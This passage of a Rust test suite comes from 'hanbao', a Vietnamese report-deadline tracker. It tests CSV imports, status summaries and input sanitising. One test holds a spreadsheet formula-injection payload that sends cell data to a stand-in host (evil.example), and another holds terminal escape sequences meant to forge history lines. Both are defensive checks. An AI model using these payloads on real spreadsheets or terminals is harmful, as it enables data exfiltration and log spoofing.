    .unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(err.contains("3 lỗi, không ghi dòng nào"), "{err}");
    assert!(err.contains("dòng 3: nq121-6thang / 2026-H1 / ubnd-binhson: đã có một báo cáo khác được ghi nhận (nhận ngày 15/06/2026, số văn bản 12/BC)"), "{err}");
    assert!(
        err.contains("dòng 4: nq121-6thang / 2026-H1 / ubnd-moduc: khác với dòng 2 của cùng tệp"),
        "{err}"
    );
    assert!(err.contains("dòng 5, cột correction: nq121-6thang / 2026-H1 / ubnd-nghiahanh: chưa có báo cáo nào để sửa"), "{err}");
    assert_eq!(
        e.ok(&["history"]).lines().count(),
        3,
        "still only the 2 earlier rows"
    );

    // Header problems.
    std::fs::write(&file, "obligation,period,don_vi,extra\n").unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(
        err.contains("dòng 1: cột \"extra\" không được hỗ trợ"),
        "{err}"
    );
    assert!(
        err.contains("dòng 1, cột received_on: thiếu cột bắt buộc"),
        "{err}"
    );
}

#[test]
fn archived_ids_keep_their_history_and_check_warns() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("h.toml");
    std::fs::write(&cfg, small_config(true)).unwrap();
    let e = Env {
        dir,
        config: cfg.clone(),
    };
    // check does not create the database.
    let out = e.ok(&["check"]);
    assert!(!out.contains("cơ sở dữ liệu"), "{out}");
    assert!(!e.db().exists(), "check must not create a database");
    e.ok(&[
        "submit",
        "bc-nam",
        "2024",
        "huyen-cu",
        "--on",
        "2024-12-10",
        "--ref",
        "5/BC",
    ]);
    let out = e.ok(&["check"]);
    assert!(!out.contains("Cảnh báo về cơ sở dữ liệu"), "{out}");

    // The unit is removed from the configuration: history stays, archived.
    std::fs::write(&cfg, small_config(false)).unwrap();
    let hist = e.ok(&["history"]);
    assert!(
        hist.contains("bc-nam / 2024 / huyen-cu (đã lưu trữ)  nộp  nhận 10/12/2024, số 5/BC"),
        "{hist}"
    );
    let hist = e.ok(&["history", "--unit", "huyen-cu"]);
    assert_eq!(hist.lines().count(), 2, "{hist}");
    let out = e.ok(&["check"]);
    assert!(out.contains("Cảnh báo về cơ sở dữ liệu (1):"), "{out}");
    assert!(
        out.contains(
            "  cơ sở dữ liệu có lịch sử của đơn vị \"huyen-cu\" nhưng cấu hình không còn đơn vị này"
        ),
        "{out}"
    );
    assert!(out.contains("Cấu hình hợp lệ"), "{out}");
    // Writing under an archived id is refused (the config decides what is owed).
    let err = e.fails(&["submit", "bc-nam", "2024", "huyen-cu"], 1);
    assert!(err.contains("không có đơn vị \"huyen-cu\""), "{err}");
}

#[test]
fn a_bad_configuration_exits_78() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("h.toml");
    std::fs::write(&cfg, "[[unit]]\nid = \"x\"\n").unwrap();
    let e = Env { dir, config: cfg };
    e.fails(&["status"], 78);
    e.fails(&["submit", "a", "b", "c"], 78);
}

const AT_30_06: [&str; 6] = ["--obligation", OB, "--period", H1, "--at", "2026-06-30"];

/// Every cell of a CSV hanbao wrote, parsed by the csv crate.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap()).unwrap();
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// A document number that is a spreadsheet formula is exported as text
/// (OWASP: a leading single quote), by `export`, `status --csv` alike;
/// the numbers and dates hanbao writes itself stay as they are.
#[test]
fn exports_never_hand_a_spreadsheet_a_formula() {
    let e = Env::sample();
    let evil = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Xem")"#;
    for (unit, on, reference) in [
        ("ubnd-binhson", "2026-06-15", evil),
        ("ubnd-sontinh", "2026-06-25", "-2+3"),
        ("ubnd-moduc", "2026-06-10", "@SUM(A1:A9)"),
        ("ubnd-nghiahanh", "2026-06-11", "+84 255 3822"),
    ] {
        let reference = format!("--ref={reference}");
        e.ok(&["submit", OB, H1, unit, "--on", on, &reference]);
    }
    let csv = e.run(&[&["export"][..], &AT_30_06].concat()).stdout;
    assert_eq!(
        e.run(&[&["status", "--csv"][..], &AT_30_06].concat())
            .stdout,
        csv
    );
    let rows = cells(&csv);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula reaches the spreadsheet: {cell:?} in {row:?}"
            );
        }
    }
    let by_unit = |u: &str| rows.iter().find(|r| r[3] == u).unwrap().clone();
    assert_eq!(by_unit("ubnd-binhson")[11], format!("'{evil}"));
    assert_eq!(by_unit("ubnd-moduc")[11], "'@SUM(A1:A9)");
    assert_eq!(by_unit("ubnd-nghiahanh")[11], "'+84 255 3822");
    let sontinh = by_unit("ubnd-sontinh");
    assert_eq!(sontinh[11], "'-2+3");
    assert_eq!(
        sontinh[7..11],
        ["18/06/2026", "25/06/2026", "7", "5"],
        "hanbao's own dates and numbers stay as they are"
    );
}

/// Text stored before control characters were refused (or written by
/// another program) reaches the terminal escaped: an ESC sequence cannot
/// clear the screen, a carriage return cannot overwrite the real actor,
/// a line break cannot forge a history line.
#[test]
fn stored_control_characters_reach_the_terminal_escaped() {
    let e = Env::sample();
    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "2026-06-15"]);
    let url = format!("sqlite://{}", e.db().display());
    tokio::runtime::Runtime::new().unwrap().block_on(async {
        let s = store::open(&url).await.unwrap();
        s.record_submission(
            NewSubmission {
                key: key("ubnd-moduc"),
                received_on: date(2026, 6, 10),
                received_at: None,
                reference: Some("15/BC\u{1b}[8m".into()),
                note: Some("bản giấy\r\u{1b}[2K\n01/07/2026 08:00  giả mạo\u{0}".into()),
                actor: "kẻ gian\rchi-lan".into(),
                source: Source::Api,
                correction: false,
            },
            now(),
        )
        .await
        .unwrap();
        s.close().await;
    });
    let hist = e.ok(&["history", "--unit", "ubnd-moduc"]);
    let conflict = e.fails(
        &[
            "submit",
            OB,
            H1,
            "ubnd-moduc",
            "--on",
            "2026-06-11",
            "--ref",
            "1/BC",
        ],
        1,
    );
    for out in [&hist, &conflict] {
        for raw in ['\u{1b}', '\r', '\u{0}'] {
            assert!(!out.contains(raw), "raw {raw:?} on the terminal: {out:?}");
        }
    }
    assert_eq!(hist.lines().count(), 2, "one record, one line: {hist}");
    assert!(
        hist.contains("số 15/BC\\u{1b}[8m")
            && hist.contains("\"bản giấy\\r\\u{1b}[2K\\n01/07/2026 08:00  giả mạo\\0\"")
            && hist.contains("kẻ gian\\rchi-lan (api)"),
        "{hist}"
    );
    assert!(
        conflict.contains("số văn bản 15/BC\\u{1b}[8m")
            && conflict.contains("do kẻ gian\\rchi-lan"),
        "{conflict}"
    );
}

/// What people type is checked alike on the command line and in imports:
/// no control characters, no receipt before the period started, no
/// extension beyond a year and a day after the due day.
#[test]
fn control_characters_backdating_and_far_extensions_are_refused() {
    let e = Env::sample();
    let cases: &[(&[&str], &str)] = &[
        (
            &[
                "submit",
                OB,
                H1,
                "ubnd-binhson",
                "--on",
                "2026-06-15",
                "--note",
                "a\rb",
            ],
            "ghi chú có ký tự điều khiển \\r",
        ),
        (
            &[
                "submit",
                OB,
                H1,
                "ubnd-binhson",
                "--on",
                "2026-06-15",
                "--ref",
                "1\u{1b}[2J",
            ],
            "số văn bản có ký tự điều khiển \\u{1b}",
        ),
        (
            &[
                "submit",
                OB,
                H1,
                "ubnd-binhson",
                "--on",
                "2026-06-15",
                "--by",
                "x\ry",
            ],
            "người ghi có ký tự điều khiển \\r",
        ),
        (
            &["submit", OB, H1, "ubnd-binhson", "--on", "2025-12-31"],
            "ngày nhận 31/12/2025 trước khi kỳ báo cáo bắt đầu (01/01/2026)",
        ),
        (
            &["submit", OB, H1, "ubnd-binhson", "--on", "1900-01-01"],
            "trước khi kỳ báo cáo bắt đầu",
        ),
        (
            &[
                "extend",
                OB,
                H1,
                "ubnd-moduc",
                "--until",
                "2099-01-01",
                "--reason",
                "bão",
            ],
            "ngày gia hạn 01/01/2099 quá xa: gia hạn được tối đa đến ",
        ),
        (
            &["waive", OB, H1, "ubnd-moduc", "--reason", "sáp\u{7f}nhập"],
            "lý do có ký tự điều khiển \\u{7f}",
        ),
        (
            &["revoke", OB, H1, "ubnd-moduc", "--reason", "a\u{9b}b"],
            "lý do có ký tự điều khiển \\u{9b}",
        ),
    ];
    for (args, want) in cases {
        let err = e.fails(args, 1);
        assert!(err.contains(want), "{args:?}:\n{err}\nwanted: {want}");
        assert!(
            !err.contains(['\r', '\u{1b}', '\u{7f}', '\u{9b}']),
            "{err:?}"
        );
    }
    let file = e.dir.path().join("nhap.csv");
    std::fs::write(
        &file,
        "obligation,period,unit,received_on,reference,note,by\n\
         nq121-6thang,2026-H1,ubnd-binhson,31/12/2025,1/BC,,\n\
         nq121-6thang,2026-H1,ubnd-moduc,15/06/2026,3/BC,,\"chị\u{1b}[2J Lan\"\n\
         nq121-6thang,2026-H1,ubnd-sontinh,15/06/2026,2/BC,\"dòng 1\rdòng 2\",\n",
    )
    .unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    for want in [
        "3 lỗi",
        "dòng 2, cột received_on: ngày nhận 31/12/2025 trước khi kỳ báo cáo bắt đầu (01/01/2026)",
        "dòng 3, cột by: người ghi có ký tự điều khiển \\u{1b}",
        "dòng 4, cột note: ghi chú có ký tự điều khiển \\r",
    ] {
        assert!(err.contains(want), "{err}\nwanted: {want}");
    }
    // The bounds themselves pass: the first day of the period, and a year
    // and a day after today (later than the due day, 18/06/2026).
    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "2026-01-01"]);
    let tz = jiff::tz::TimeZone::get("Asia/Ho_Chi_Minh").unwrap();
    let today = Timestamp::now()
        .to_zoned_datetime(tz)
        .date()
        .max(date(2026, 6, 18));
    let latest = today.checked_add(jiff::Span::new().days(366)).unwrap();
    let after = latest.tomorrow().unwrap().to_string();
    let err = e.fails(
        &[
            "extend",
            OB,
            H1,
            "ubnd-moduc",
            "--until",
            &after,
            "--reason",
            "bão",
        ],
        1,
    );
    assert!(
        err.contains(&format!(
            "gia hạn được tối đa đến {}",
            tracking::dmy(latest)
        )),
        "{err}"
    );
    let latest_iso = latest.to_string();
    e.ok(&[
        "extend",
        OB,
        H1,
        "ubnd-moduc",
        "--until",
        &latest_iso,
        "--reason",
        "bão",
    ]);
    assert_eq!(e.ok(&["history"]).lines().count(), 3);
}

/// An import is bounded: the file's size, its number of rows, the length
/// of the report of a bad file (its first problems, then how many more,
/// each cut short); and its `by` column can only name someone as written
/// on their behalf by the person who ran it.
#[test]
fn imports_are_bounded_and_mark_who_wrote_for_whom() {
    let e = Env::sample();
    let file = e.dir.path().join("nhap.csv");
    let header = "obligation,period,unit,received_on\n";

    // Over 16 MiB: refused before anything is read into rows.
    let f = std::fs::File::create(&file).unwrap();
    f.set_len(17 * 1024 * 1024).unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(err.contains("lớn hơn 16 MiB"), "{err}");
    assert!(err.len() < 1000, "{} bytes", err.len());

    // Over 100,000 rows.
    let row = "nq121-6thang,2026-H1,ubnd-binhson,15/06/2026\n";
    std::fs::write(&file, format!("{header}{}", row.repeat(100_001))).unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(err.contains("tệp có hơn 100000 dòng dữ liệu"), "{err}");
    assert!(err.len() < 1000, "{} bytes", err.len());

    // 2,000 bad rows, one with a 100 kB unit id: 50 problems listed, each
    // short, and the count of the others.
    let mut text = String::from(header);
    text.push_str(&format!(
        "nq121-6thang,2026-H1,{},15/06/2026\n",
        "x".repeat(100_000)
    ));
    for i in 1..2000 {
        text.push_str(&format!("nq121-6thang,2026-H1,ubnd-{i},15/06/2026\n"));
    }
    std::fs::write(&file, text).unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(
        err.contains("2000 lỗi, không ghi dòng nào"),
        "{}",
        &err[..500]
    );
    assert!(
        err.contains("… và 1950 lỗi khác không liệt kê"),
        "{}",
        &err[err.len() - 500..]
    );
    assert_eq!(err.lines().filter(|l| l.starts_with("  dòng ")).count(), 50);
    assert!(err.len() < 50_000, "{} bytes", err.len());

    // `by`: the runner (USER=chi-lan) is always the recorded actor; a `by`
    // naming someone else (here an API token's actor) is marked.
    std::fs::write(
        &file,
        "obligation,period,unit,received_on,by\n\
         nq121-6thang,2026-H1,ubnd-binhson,15/06/2026,token:1:Điều phối\n\
         nq121-6thang,2026-H1,ubnd-sontinh,15/06/2026,chi-lan\n\
         nq121-6thang,2026-H1,ubnd-moduc,15/06/2026,\n",
    )
    .unwrap();
    e.ok(&["import", file.to_str().unwrap()]);
    let hist = e.ok(&["history"]);
    let actor = |unit: &str| {
        let line = hist.lines().find(|l| l.contains(unit)).unwrap();
        line.rsplit("  ").next().unwrap().to_string()
    };
    assert_eq!(
        actor("ubnd-binhson"),
        "chi-lan (ghi thay token:1:Điều phối) (import)"
    );
    assert_eq!(actor("ubnd-sontinh"), "chi-lan (import)");
    assert_eq!(actor("ubnd-moduc"), "chi-lan (import)");
}

/// `hanbao status` by default: a summary per obligation and period that
/// fits 100 columns whatever the number of units, by name, with the
/// counts; `--matrix` shows every unit.
#[test]
fn status_is_a_summary_within_100_columns_and_the_matrix_on_request() {
    let e = Env::sample();
    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "15/06/2026"]);
    e.ok(&["submit", OB, H1, "ubnd-sontinh", "--on", "25/06/2026"]);
    e.ok(&["waive", OB, H1, "ubnd-lyson", "--reason", "sáp nhập"]);
    e.ok(&[
        "extend",
        OB,
        H1,
        "ubnd-tunghia",
        "--until",
        "03/07/2026",
        "--reason",
        "lũ",
    ]);
    let owed = sample().obligation(OB).unwrap().reporters.len();
    let out = e.ok(&["status", "--at", "2026-06-30"]);
    for line in out.lines() {
        assert!(
            line.chars().count() <= 100,
            "{} columns: {line}",
            line.chars().count()
        );
    }
    let title: String = sample()
        .obligation(OB)
        .unwrap()
        .title
        .chars()
        .take(40)
        .collect();
    assert!(out.contains(&title), "{out}");
    assert!(out.contains(&format!("[{OB}]")), "{out}");
    let period = out
        .lines()
        .skip_while(|l| !l.contains(&format!("[{OB}]")))
        .find(|l| l.starts_with("  Kỳ 2026-H1, hạn 18/06/2026:"))
        .unwrap_or_else(|| panic!("{out}"));
    for want in [
        format!("đã nhận 2/{} (đúng hạn 1, muộn 1)", owed - 1),
        format!("quá hạn {}", owed - 4),
        "gia hạn 1".into(),
        "miễn nộp 1".into(),
    ] {
        assert!(period.contains(&want), "{period}\nwanted: {want}");
    }
    assert!(
        out.contains("  Quá hạn: Văn phòng UBND tỉnh (12 ngày),"),
        "{out}"
    );
    assert!(out.contains("(12 ngày)"), "{out}");
    assert!(!out.contains("ubnd-moduc"), "names, not ids: {out}");

    let m = e.ok(&["status", "--matrix", "--at", "2026-06-30"]);
    let row = m.lines().find(|l| l.starts_with("ubnd-moduc")).unwrap();
    assert!(row.contains("QUÁ HẠN 12 ngày (8 LV)"), "{row}");
}

/// `status --matrix` with a daily report (due 10:00 the next working day)
/// and a weekly one (due 16:00 Friday), none sent, on Wed 25/2/2026 at
/// 15:00, after Tết (14–22/2): each takes two columns, its latest period
/// (the daily one "hôm nay") and its earlier unsettled periods together.
/// Daily 9–13/2 and 23–24/2 are overdue (9/2, due Tue 10/2: 15 days; 24/2,
/// due today 10:00: past the hour); weeks 7 (due Fri 13/2: 12 days) and 8
/// (Tết, due Mon 23/2: 2 days) are overdue.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_daily_report_takes_a_today_column_and_one_for_earlier_days() {
    let text = "[[unit]]\nid = \"so\"\nname = \"Sở Thử\"\nemail = \"vanthu@so.example\"\n\
        [[unit]]\nid = \"xa-a\"\nname = \"UBND xã A\"\nemail = \"vanthu@xa-a.example\"\n\
        [[obligation]]\nid = \"bc-ngay\"\ntitle = \"Báo cáo nhanh trong ngày\"\n\
        reporters = [\"xa-a\"]\nrecipient = \"so\"\ncycle = \"hàng ngày\"\n\
        due = \"chậm nhất 10 giờ, 1 ngày làm việc\"\nactive_from = \"09/02/2026\"\n\
        [[obligation]]\nid = \"bc-tuan\"\ntitle = \"Báo cáo tuần\"\n\
        reporters = [\"xa-a\"]\nrecipient = \"so\"\ncycle = \"hàng tuần\"\n\
        due = \"trước 16 giờ 00 thứ Sáu\"\nactive_from = \"09/02/2026\"\n";
    let cfg = hanbao::config::load_str("t.toml", text)
        .unwrap_or_else(|e| panic!("{e}"))
        .config;
    let cal = WorkCalendar::new(&cfg.calendar);
    let dir = tempfile::tempdir().unwrap();
    let s = store::open(&format!("sqlite://{}/h.db", dir.path().display()))
        .await
        .unwrap();
    let at = hanbao::status::Moment {
        day: date(2026, 2, 25),
        time: Some(jiff::civil::Time::constant(15, 0, 0, 0)),
    };
    let rows = tracking::status(&s, &cfg, &cal, &Selection::default(), at)
        .await
        .unwrap();
    let m = hanbao::commands::status::matrix(&rows, &cfg, at.day, false);
    fn cells(line: &str) -> Vec<&str> {
        line.split("  ")
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .collect()
    }
    let lines: Vec<&str> = m.lines().collect();
    let head = cells(lines[2]);
    assert_eq!(
        head,
        [
            "Đơn vị",
            "bc-ngay các kỳ trước",
            "bc-ngay hôm nay",
            "bc-tuan các kỳ trước",
            "bc-tuan 2026-W09"
        ],
        "{m}"
    );
    let row = cells(lines[3]);
    assert_eq!(row[0], "xa-a", "{m}");
    assert_eq!(row[2], "đang trong kỳ", "{m}");
    assert_eq!(row[1], "QUÁ HẠN 7 kỳ (lâu nhất 15 ngày)", "{m}");
    assert_eq!(row[3], "QUÁ HẠN 2 kỳ (lâu nhất 12 ngày)", "{m}");
    assert!(
        m.contains("bc-ngay các kỳ trước: hạn từ 10/02/2026 — Báo cáo nhanh trong ngày"),
        "{m}"
    );
    assert!(
        m.contains("bc-ngay hôm nay: kỳ 2026-02-25, hạn 26/02/2026"),
        "{m}"
    );
    // The summary (the default) groups them the same way, each late unit
    // named once with how many periods.
    let sum = hanbao::commands::status::summary(&rows, &cfg, at.day, false);
    for line in [
        "  Các kỳ trước (7 kỳ), hạn từ 10/02/2026: đã nhận 0/7 (đúng hạn 0, muộn 0), quá hạn 7",
        "  Quá hạn: UBND xã A (7 kỳ, lâu nhất 15 ngày)",
        "  Kỳ 2026-02-25 (hôm nay), hạn 26/02/2026: đã nhận 0/1 (đúng hạn 0, muộn 0), chưa đến hạn 1",
        "  Các kỳ trước (2 kỳ), hạn từ 13/02/2026: đã nhận 0/2 (đúng hạn 0, muộn 0), quá hạn 2",
        "  Quá hạn: UBND xã A (2 kỳ, lâu nhất 12 ngày)",
        "  Kỳ 2026-W09, hạn 27/02/2026: đã nhận 0/1 (đúng hạn 0, muộn 0), chưa đến hạn 1",
    ] {
        assert!(sum.lines().any(|l| l == line), "{line}\n{sum}");
    }
}
